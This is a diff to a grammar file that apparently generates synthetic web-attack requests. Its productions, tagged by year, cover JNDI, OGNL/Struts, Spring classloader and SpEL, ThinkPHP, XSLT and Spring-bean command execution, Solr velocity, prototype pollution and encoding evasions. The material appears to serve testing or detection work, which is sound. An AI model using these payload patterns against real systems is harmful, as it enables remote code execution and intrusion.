@@ -42,14 +42,15 @@ ruby_code := *2 «ruby» ¦ *2 «erb»
 other_code := *3 «twig» ¦ *2 «smarty» ¦ «lua» ¦ *2 «ssi» ¦ «coldfusion» ¦ «go_tpl»
 php_evaded := *2 «php|urlsome» ¦ «php|url» ¦ «php|urlall» ¦ «php|b64» ¦ «php|case» ¦ «php|slashx» ¦ «php|url2»
   ¦ «php|ent»
-java_evaded := *2 «java|urlsome» ¦ «java|url» ¦ «java|urlall» ¦ «java|slashu» ¦ «java|b64» ¦ «ognl|url» ¦ «jndi|url»
-  ¦ «jndi|b64» ¦ «java|url2» ¦ «java|case»
+java_evaded := *2 «java|urlsome» ¦ «java|url» ¦ «java|urlall» ¦ «java|slashu» ¦ «java|b64» ¦ «ognl|url»
+  ¦ @2021 «jndi|url» ¦ @2021 «jndi|b64» ¦ «java|url2» ¦ «java|case»
 any_evaded := «any|urlsome» ¦ «any|url» ¦ «any|b64» ¦ «any|case» ¦ «any|ent» ¦ «any|url2» ¦ «script_code|urlall»
 php_header := *2 «php» ¦ <?php «php_stmt»?> ¦ Mozilla/5.0 <?=«php_expr»?> ¦ Mozilla/5.0 <?php «php_stmt» ?> ¦ «php_stmt»
   ¦ «ssi»
-java_header := *5 «jndi» ¦ *3 «ognl» ¦ «java» ¦ %{(#_='multipart/form-data').«ognl_body»} ¦ «spel» ¦ «spel» ¦ «groovy»
+java_header := @2021 *5 «jndi» ¦ *3 «ognl» ¦ «java» ¦ %{(#_='multipart/form-data').«ognl_body»} ¦ «spel» ¦ «spel»
+  ¦ «groovy»
 php_name := $_«php_super»['«ab»'] ¦ ${@«php_call»} ¦ «word»[#«=post_render~markup~type»]
-java_name := ${«java_code»} ¦ {{«int»*«int»}} ¦ class.module.classLoader.«name» ¦ ('#_memberAccess')(«ab»)
+java_name := ${«java_code»} ¦ {{«int»*«int»}} ¦ @2022 class.module.classLoader.«name» ¦ ('#_memberAccess')(«ab»)
   ¦ «word»['system']('«unix_bin»') ¦ (#context["xwork.MethodAccessor.denyMethodExecution"]=new+java.lang.Boolean(false))
   ¦ username[#this.getClass().forName("java.lang.Runtime").getRuntime().exec("«java_cmd»")]
 js_name := __proto__[«proto_key»] ¦ constructor[prototype][«proto_key»] ¦ __proto__.«proto_key»
@@ -60,18 +61,18 @@ php_form := «php_method» ¦ «=code~eval~script~expression~template~content~cm
 java_form := «classloader» ¦ script=«groovy|plus» ¦ «=script~expression~template~content~username~data»=«java|plus»
   ¦ «word»=«java|plus»&«word»=«rand»
 java_json := {"script":"«groovy|js»","type":"groovy"} ¦ {"«name»":"«java|js»"} ¦ {"«name»":{"«name»":"«java|js»"}}
-  ¦ {"id":"«rand»","filters":[{"name":"AddResponseHeader","args":{"name":"«coined|cap»","value":"#{«exec|js»}"}}],"uri":"http://«zone»"}
+  ¦ @2022 {"id":"«rand»","filters":[{"name":"AddResponseHeader","args":{"name":"«coined|cap»","value":"#{«exec|js»}"}}],"uri":"http://«zone»"}
   ¦ {"expression":"«spel|js»","«name»":«int»}
   ¦ {"query":"«word»","scriptLanguage":"javascript","script":"«rhino_code|js»"}
   ¦ {"type":"index","spec":{"parser":{"type":"javascript","function":"function(){«rhino_code|js»}"},"":{"enabled":true}}}
-  ¦ {"«name»":"«jndi|js»"} ¦ {"params":["«java|js»"],"method":"«word»","id":«int»}
+  ¦ @2021 {"«name»":"«jndi|js»"} ¦ {"params":["«java|js»"],"method":"«word»","id":«int»}
 python_json := {"template":"«jinja|js»","data":{}} ¦ {"name":"«rand»","code":"«pycode|js»","language":"python"}
   ¦ {"«name»":"«python_code|js»"}
 js_json := {"__proto__":{"«proto_key»":«proto_val»},"«name»":"«rand»"} ¦ {"«name»":"«js_code|js»"}
   ¦ {"«name»":{"«name»":"«node|js»"}}
 java_xml := <?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"><xsl:template match="/"><xsl:variable name="«ab»" select="rt:exec(rt:getRuntime(),'«java_cmd»')"/></xsl:template></xsl:stylesheet>
   ¦ <xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:php="http://php.net/xsl"><xsl:template match="/"><xsl:value-of select="php:function('«php_exec»','«unix_info»')"/></xsl:template></xsl:stylesheet>
-  ¦ <?xml version="1.0"?><«$r:word»><«$n:name»>«jndi»</«$n»></«$r»>
+  ¦ @2021 <?xml version="1.0"?><«$r:word»><«$n:name»>«jndi»</«$n»></«$r»>
   ¦ <beans xmlns="http://www.springframework.org/schema/beans"><bean id="«ab»" class="java.lang.ProcessBuilder" init-method="start"><constructor-arg><list><value>«unix_bin»</value></list></constructor-arg></bean></beans>
   ¦ <?xml version="1.0"?><methodCall><methodName>«word».«word»</methodName><params><param><value><string>«php_break|html»«php_stmt|html»//</string></value></param></params></methodCall>
   ¦ <entry><«$n:name»>${«exec»}</«$n»></entry>
@@ -79,7 +80,7 @@ php_tail := /«word»/{${«php_call»}}
   ¦ /index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array&vars[0]=«php_func»&vars[1][]=«rand»
   ¦ /?«php_config|plus» ¦ /«word».php?«php_config|plus» ¦ /«=index~home~public»/«=~index»/name/${@«php_call»}
 java_tail := /${«ognl_body|url»}/ ¦ /%24%7B«ognl_body|url»%7D/«word».action ¦ /$%7B«int»*«int»%7D/«word».action
-  ¦ /«jndi|url» ¦ /«word»/${«int»*«int»} ¦ /;/__${«exec|url»}__::.x ¦ /«word»/__%24%7B«exec|url»%7D__%3A%3A.x
+  ¦ @2021 /«jndi|url» ¦ /«word»/${«int»*«int»} ¦ /;/__${«exec|url»}__::.x ¦ /«word»/__%24%7B«exec|url»%7D__%3A%3A.x
   ¦ /«word».action?redirect:${«ognl_exec|url»} ¦ /«word».action?method:«ognl_exec|url»
   ¦ /«word»/%25{«ognl_exec|url»}.action ¦ /struts/«word»?debug=command&expression=«ognl_exec|url»
   ¦ /solr/«word»/select?q=1&wt=velocity&v.template=custom&v.template.custom=«velocity|url»
